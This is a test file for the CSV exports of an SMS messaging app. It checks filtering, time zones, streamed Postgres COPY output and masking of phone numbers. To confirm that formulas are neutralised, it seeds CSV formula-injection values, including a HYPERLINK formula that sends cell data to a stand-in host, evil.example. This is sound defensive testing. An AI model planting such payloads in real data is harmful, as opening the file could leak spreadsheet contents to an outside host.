/**
 * CSV exports of the message list and the delivery log against a real database, as a viewer:
 * rows match the filtered list, times are ISO 8601 with the viewer's offset, formulas are
 * neutralised while phone numbers stay readable, and the file is streamed from Postgres's COPY
 * as the reader pulls (not buffered whole: Postgres waits on the reader), ending the COPY and its
 * transaction if the reader leaves.
 */
import { createTestDatabase, createUser, phoneColumns, type TestDatabase } from '@sms/db/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeHistoryCursor } from '$lib/server/sms/history-query';
import { parseDeliveryLogFilters } from './delivery-log-filters.ts';
import { listDeliveryEvents } from './delivery-log.ts';
import { eventsCsv } from './event-export.ts';
import { MESSAGE_CSV_HEADER, messagesCsv } from './message-export.ts';
import { parseMessageFilters } from './message-filters.ts';
import { listMessages } from './messages.ts';
import { createDb, phoneCipher, sealPayload } from '@sms/db';

const TZ = 'America/Los_Angeles';
const ROWS = 5000;
let t: TestDatabase;
let org: string;
let viewer: string;
const claims = () => ({ sub: viewer, role: 'authenticated' as const });
/** A number's four sealed columns, as values for `(…, phone_enc, phone_hash, phone_last4, calling_code, …)`. */
const ph = (e164: string) => {
	const p = phoneColumns(e164);
	return t.sql`${p.phone_enc}, ${p.phone_hash}, ${p.phone_last4}, ${p.calling_code}`;
};
const messageFilters = (p: Record<string, string>) => parseMessageFilters(new URLSearchParams(p), { timeZone: TZ, defaultCountry: 'US' });

async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ text: string; chunks: Uint8Array[] }> {
	const chunks: Uint8Array[] = [];
	const reader = stream.getReader();
	for (;;) {
		const { done, value } = await reader.read();
		if (done) break;
		chunks.push(value);
	}
	return { text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(Buffer.concat(chunks)), chunks };
}
const records = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[];

beforeAll(async () => {
	t = await createTestDatabase();
	viewer = await createUser(t.sql);
	const [o] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-a', 'Export') returning id`;
	org = o!.id;
	await t.sql`select public.add_organization_member(${org}, ${viewer}, 'viewer')`;
	const [other] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-b', 'Other') returning id`;
	const [evil] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code)
		values (${org}, '=HYPERLINK("http://evil.example/?x="&A1,"Click")', ${ph('+14155550123')}) returning id`;
	const [sum] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code)
		values (${org}, '@SUM(1+1)', ${ph('+14155550124')}) returning id`;
	const [p3, p4] = [phoneColumns('+14155550123'), phoneColumns('+14155550124')];
	await t.sql`
		insert into public.sms_messages (organization_id, contact_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status, error_code, price, price_unit, created_at)
		select ${org}, case when i % 2 = 0 then ${evil!.id}::uuid else ${sum!.id}::uuid end,
			case when i % 2 = 0 then ${p3.phone_enc} else ${p4.phone_enc} end, case when i % 2 = 0 then ${p3.phone_hash} else ${p4.phone_hash} end,
			case when i % 2 = 0 then '0123' else '0124' end, '1',
			case when i = 1 then '+1 415 555 0123' when i = 3 then '+1 415 555 0123 called' else 'Doors open at 7' end,
			case when i % 5 = 0 then 'failed' else 'delivered' end, case when i % 5 = 0 then 30003 end,
			-0.0079, 'USD', timestamptz '2026-11-20T10:00:00Z' + i * interval '1 second'
		from generate_series(1, ${ROWS}) i`;
	const [stranger] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code) values (${other!.id}, 'Stranger', ${ph('+14155550123')}) returning id`;
	await t.sql`insert into public.sms_messages (organization_id, contact_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status) values (${other!.id}, ${stranger!.id}, ${ph('+14155550123')}, 'not yours', 'failed')`;
	await t.sql`
		insert into public.sms_delivery_events (message_id, provider, status, raw_status, source, sender_ip, payload, received_at)
		select m.id, 'twilio', s.status, s.status, 'webhook', '203.0.113.9', jsonb_build_object('MessageStatus', s.status, 'Body', '=cmd'), m.created_at + s.after
		from (select * from public.sms_messages where organization_id = ${org} order by created_at limit 300) m,
			(values ('sent', interval '1 second'), ('delivered', interval '4 seconds')) s (status, after)`;
});
afterAll(async () => t?.close());

describe('messagesCsv', () => {
	it('writes the filtered list, every page of it, in the same order', async () => {
		const f = messageFilters({ verdict: 'failed', q: '0123' });
		const listed: string[] = [];
		let cursor: string | null = null;
		do {
			const page = await t.db.asUser(claims(), (tx) => listMessages(tx, org, messageFilters({ verdict: 'failed', q: '0123', limit: '100', ...(cursor ? { cursor } : {}) })));
			listed.push(...page.rows.map((r) => r.id));
			cursor = page.next ? encodeHistoryCursor(page.next) : null;
		} while (cursor);
		const { text } = await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: f, timeZone: TZ, showNumbers: true }));
		const rows = records(text);
		expect(listed).toHaveLength(ROWS / 10);
		expect(rows.map((r) => r.id)).toEqual(listed);
		expect(rows.every((r) => r.verdict === 'failed' && r.phone === '+14155550123' && r.error === 'Unreachable handset')).toBe(true);
	});

	it('is UTF-8 with a BOM and a header; times are ISO 8601 with the offset; formulas are neutralised, phone numbers and prices stay readable', async () => {
		const { text } = await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: messageFilters({}), timeZone: TZ, showNumbers: true }));
		expect(text.startsWith('\ufeffid,created_at,recipient,')).toBe(true);
		const rows = records(text);
		expect(rows).toHaveLength(ROWS);
		const first = rows.at(-1)!; // oldest: i = 1
		expect(first).toMatchObject({
			created_at: '2026-11-20T02:00:01.000-08:00',
			recipient: "'@SUM(1+1)",
			phone: '+14155550124',
			body: '+1 415 555 0123',
			price: '-0.00790',
			recipient_type: 'contact'
		});
		expect(rows.at(-2)).toMatchObject({ recipient: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, phone: '+14155550123' });
		expect(rows.at(-3)!.body).toBe("'+1 415 555 0123 called");
		expect(rows.some((r) => r.body === 'not yours')).toBe(false);
	});

	it('writes times in the viewer\'s zone, ISO 8601 with the offset, in every kind of zone', async () => {
		for (const zone of ['America/Los_Angeles', 'UTC', 'Asia/Kolkata', 'America/St_Johns', 'Australia/Lord_Howe', 'Europe/Amsterdam']) {
			const rows = records((await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: messageFilters({ q: '0124' }), timeZone: zone }))).text);
			const want = await t.sql.begin(async (tx) => {
				await tx`select set_config('timezone', ${zone}, true)`;
				return tx<{ id: string; at: string }[]>`
					select id, to_char(created_at, 'YYYY-MM-DD"T"HH24:MI:SS.MSTZH:TZM') as at from public.sms_messages where organization_id = ${org} and phone_last4 = '0124'`;
			});
			const at = new Map(want.map((w) => [w.id, w.at]));
			expect(rows).toHaveLength(ROWS / 2);
			for (const r of rows) expect(r.created_at, zone).toBe(at.get(r.id!));
			expect(rows[0]!.created_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}[+-]\d\d:\d\d$/);
		}
	});

	it('names users by e-mail in every chunk: the look-up runs beside the open COPY', async () => {
		const [o] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-users', 'Users') returning id`;
		await t.sql`select public.add_organization_member(${o!.id}, ${viewer}, 'viewer')`;
		const users = await Promise.all([1, 2, 3].map((i) => createUser(t.sql, { email: `export-user-${i}@example.com` })));
		const sealed = [0, 1, 2].map((k) => phoneColumns('+1415555020' + k));
		await t.sql`
			insert into public.sms_messages (organization_id, user_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status, created_at)
			select ${o!.id}, (${users}::uuid[])[1 + i % 3], (${sealed.map((p) => p.phone_enc)}::text[])[1 + i % 3],
				(${sealed.map((p) => p.phone_hash)}::text[])[1 + i % 3], '020' || (i % 3), '1', 'hi', 'delivered',
				timestamptz '2026-11-20T10:00:00Z' + i * interval '1 second'
			from generate_series(1, 3000) i`;
		let chunks = 0;
		const { text } = await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: o!.id, filters: messageFilters({}), timeZone: TZ, onChunk: () => chunks++ }));
		const rows = records(text);
		expect(chunks).toBeGreaterThan(1);
		expect(rows).toHaveLength(3000);
		expect(new Set(rows.map((r) => r.recipient))).toEqual(new Set([1, 2, 3].map((i) => `export-user-${i}@example.com`)));
	});

	it('cuts numbers to the last four for members not allowed to see them (viewers may export)', async () => {
		const messages = records((await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: messageFilters({}), timeZone: TZ }))).text);
		expect(new Set(messages.map((r) => r.phone))).toEqual(new Set(['•••• 0123', '•••• 0124']));
		const events = records((await readAll(eventsCsv({ db: t.db, claims: claims(), organizationId: org, filters: parseDeliveryLogFilters(new URLSearchParams(), { timeZone: TZ, defaultCountry: 'US' }), timeZone: TZ }))).text);
		expect(events.length).toBeGreaterThan(0);
		expect(events.every((r) => r.phone === '•••• 0123' || r.phone === '•••• 0124')).toBe(true);
	});

	it('streams from COPY: a reader that stops has Postgres wait on it, never the whole file read at once', async () => {
		const { org: big, rows: n, bytes } = await bigWorkspace();
		let read = 0;
		const stream = messagesCsv({ db: t.db, claims: claims(), organizationId: big, filters: messageFilters({}), timeZone: TZ, onChunk: (b) => (read += b) });
		const reader = stream.getReader();
		expect((await reader.read()).done).toBe(false); // the BOM and the header
		await new Promise((r) => setTimeout(r, 800));
		// The reader has taken one chunk: what Postgres sent is a small part of the file, and the
		// COPY waits for the reader to take more.
		expect(read).toBeGreaterThan(0);
		expect(read).toBeLessThan(bytes / 4);
		const [waiting] = await t.sql<{ wait: string | null }[]>`
			select wait_event as wait from pg_stat_activity where datname = current_database() and query like 'copy (%' and state = 'active'`;
		expect(waiting?.wait).toBe('ClientWrite');
		const chunks: Uint8Array[] = [];
		for (;;) {
			const { done, value } = await reader.read();
			if (done) break;
			chunks.push(value);
		}
		expect(chunks.length).toBeGreaterThan(10);
		const rows = parse(Buffer.concat(chunks).toString('utf8'), { columns: MESSAGE_CSV_HEADER as unknown as string[] }) as Record<string, string>[];
		expect(rows).toHaveLength(n);
		expect(rows.every((r) => r.body!.length === 1500 && r.phone === '•••• 0123')).toBe(true);
	});

	it('outlives a statement timeout set for the web role: an export is one long COPY, bounded by its own limit', async () => {
		// Supabase and many DBAs set statement_timeout on the web's roles; a cursor's FETCHes each
		// fitted in it, one COPY of a large file does not.
		const { org: big, rows: n } = await bigWorkspace();
		const strict = createDb({ url: `${t.url}?statement_timeout=300`, max: 2 });
		try {
			const [{ timeout }] = await strict.sql<{ timeout: string }[]>`select current_setting('statement_timeout') as timeout`;
			expect(timeout).toBe('300ms');
			const reader = messagesCsv({ db: strict, claims: claims(), organizationId: big, filters: messageFilters({}), timeZone: TZ }).getReader();
			await reader.read();
			await new Promise((r) => setTimeout(r, 800)); // a slow reader: the COPY runs past 300 ms
			const chunks: Uint8Array[] = [];
			for (;;) {
				const { done, value } = await reader.read();
				if (done) break;
				chunks.push(value);
			}
			expect(parse(Buffer.concat(chunks).toString('utf8'), { columns: MESSAGE_CSV_HEADER as unknown as string[] })).toHaveLength(n);
		} finally {
			await strict.end();
		}
	});

	it('a reader who goes away ends the COPY and its transaction', async () => {
		const { org: big, bytes } = await bigWorkspace();
		const open = async () => {
			const [{ n }] = await t.sql<{ n: number }[]>`
				select count(*)::int as n from pg_stat_activity
				where datname = current_database() and xact_start is not null and pid <> pg_backend_pid()`;
			return n;
		};
		let read = 0;
		const reader = messagesCsv({ db: t.db, claims: claims(), organizationId: big, filters: messageFilters({}), timeZone: TZ, onChunk: (b) => (read += b) }).getReader();
		await reader.read();
		await reader.read();
		await new Promise((r) => setTimeout(r, 200));
		expect(await open()).toBe(1);
		await reader.cancel();
		for (let i = 0; i < 50 && (await open()) > 0; i++) await new Promise((r) => setTimeout(r, 50));
		expect(await open()).toBe(0);
		expect(read).toBeLessThan(bytes / 4);
		// The pool's connections are all usable after the cancel.
		const answers = await Promise.all(Array.from({ length: 12 }, (_, i) => t.db.asUser(claims(), (tx) => tx<{ n: number }[]>`select ${i}::int as n`)));
		expect(answers.map((a) => a[0]!.n)).toEqual(Array.from({ length: 12 }, (_, i) => i));
	});

	it('keeps the file well formed around a stored number COPY has to quote (a corrupted sealed value): the mask stands in', async () => {
		const [o] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-bad', 'Bad') returning id`;
		await t.sql`select public.add_organization_member(${o!.id}, ${viewer}, 'operator')`;
		const user = await createUser(t.sql);
		await t.sql`
			insert into public.sms_messages (organization_id, user_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status, created_at)
			values (${o!.id}, ${user}, ${'p1.bad,"key\n.x.y'}, 'h1.bad', '0199', '1', ${'Line one\nline "two", =three'}, 'delivered', '2026-11-20T10:00:00Z'),
				(${o!.id}, ${user}, ${phoneColumns('+14155550177').phone_enc}, 'h1.ok', '0177', '1', 'fine', 'delivered', '2026-11-20T09:00:00Z')`;
		const rows = records((await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: o!.id, filters: messageFilters({}), timeZone: 'UTC', showNumbers: true }))).text);
		expect(rows.map((r) => [r.phone, r.body])).toEqual([
			['•••• 0199', 'Line one\nline "two", =three'],
			['+14155550177', 'fine']
		]);
	});
});

/** A workspace of 30,000 texts with 1,500-character bodies (~50 MB of CSV), made once. */
let bigOnce: Promise<{ org: string; rows: number; bytes: number }> | null = null;
function bigWorkspace() {
	bigOnce ??= (async () => {
		const [o] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-big', 'Big') returning id`;
		await t.sql`select public.add_organization_member(${o!.id}, ${viewer}, 'viewer')`;
		const p = phoneColumns('+14155550123');
		await t.sql`
			insert into public.sms_messages (organization_id, user_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status, created_at)
			select ${o!.id}, ${await createUser(t.sql)}, ${p.phone_enc}, ${p.phone_hash}, '0123', '1', repeat('x', 1500), 'delivered', timestamptz '2026-11-20T10:00:00Z' + i * interval '1 second'
			from generate_series(1, 30000) i`;
		return { org: o!.id, rows: 30000, bytes: 30000 * 1700 };
	})();
	return bigOnce;
}

describe('eventsCsv', () => {
	it('writes the filtered delivery log in its order, payloads as JSON text, formulas neutralised', async () => {
		const f = parseDeliveryLogFilters(new URLSearchParams({ status: 'delivered', q: '0124' }), { timeZone: TZ, defaultCountry: 'US' });
		const listed: string[] = [];
		for (const page of [1, 2]) listed.push(...(await t.db.asUser(claims(), (tx) => listDeliveryEvents(tx, org, { ...f, page, limit: 100 }))).map((r) => r.id));
		const { text } = await readAll(eventsCsv({ db: t.db, claims: claims(), organizationId: org, filters: f, timeZone: TZ, showNumbers: true }));
		const rows = records(text);
		expect(listed).toHaveLength(150);
		expect(rows.map((r) => r.id)).toEqual(listed);
		expect(rows[0]).toMatchObject({ status: 'delivered', recipient: "'@SUM(1+1)", phone: '+14155550124', ip: '203.0.113.9', provider: 'twilio' });
		expect(JSON.parse(rows[0]!.payload!)).toEqual({ MessageStatus: 'delivered', Body: '=cmd' });
		expect(rows[0]!.received_at).toMatch(/^2026-11-20T02:\d\d:\d\d\.\d{3}-08:00$/);
	});

	it('writes the same events as the delivery log for each of its filters', async () => {
		const dl = (p: Record<string, string>) => parseDeliveryLogFilters(new URLSearchParams(p), { timeZone: TZ, defaultCountry: 'US' });
		const [some] = await t.sql<{ id: string; contact_id: string }[]>`select id, contact_id from public.sms_messages where organization_id = ${org} order by created_at limit 1`;
		await t.sql`update public.sms_messages set provider = 'twilio', provider_reference = 'SMexport1' where id = ${some!.id}`;
		const views: Record<string, string>[] = [
			{}, { status: 'sent' }, { provider: 'twilio' }, { from: '2026-11-20', to: '2026-11-20' }, { providerRef: 'SMexport1' },
			{ recipientId: some!.contact_id }, { q: '+1 415-555-0123' }, { q: 'SUM' }, { status: 'delivered', q: '0124', provider: 'twilio' }
		];
		for (const view of views) {
			const f = dl(view);
			const listed: string[] = [];
			for (let page = 1; ; page++) {
				const rows = await t.db.asUser(claims(), (tx) => listDeliveryEvents(tx, org, { ...f, page, limit: 100 }));
				listed.push(...rows.map((r) => r.id));
				if (rows.length < 100) break;
			}
			const exported = records((await readAll(eventsCsv({ db: t.db, claims: claims(), organizationId: org, filters: f, timeZone: TZ }))).text).map((r) => r.id);
			expect(exported, JSON.stringify(view)).toEqual(listed);
		}
	});

	it("opens a payload's sealed numbers for members who may see them, hides them from the rest", async () => {
		const [m] = await t.sql<{ id: string }[]>`select id from public.sms_messages where organization_id = ${org} and phone_last4 = '0124' order by created_at desc limit 1`;
		const payload = sealPayload(phoneCipher(), { MessageStatus: 'failed', To: '+14155550124', Note: 'a, "quoted" note' });
		await t.sql`insert into public.sms_delivery_events (message_id, provider, status, raw_status, source, payload, received_at)
			values (${m!.id}, 'twilio', 'failed', 'failed', 'webhook', ${t.sql.json(payload)}, '2026-12-01T00:00:00Z')`;
		const f = parseDeliveryLogFilters(new URLSearchParams({ status: 'failed' }), { timeZone: TZ, defaultCountry: 'US' });
		const [operator] = records((await readAll(eventsCsv({ db: t.db, claims: claims(), organizationId: org, filters: f, timeZone: TZ, showNumbers: true }))).text);
		expect(JSON.parse(operator!.payload!)).toEqual({ MessageStatus: 'failed', To: '+14155550124', Note: 'a, "quoted" note' });
		expect(operator!.phone).toBe('+14155550124');
		const [viewerRow] = records((await readAll(eventsCsv({ db: t.db, claims: claims(), organizationId: org, filters: f, timeZone: TZ }))).text);
		expect(JSON.parse(viewerRow!.payload!)).toEqual({ MessageStatus: 'failed', To: '•••• (hidden)', Note: 'a, "quoted" note' });
		expect(viewerRow!.phone).toBe('•••• 0124');
	});
});
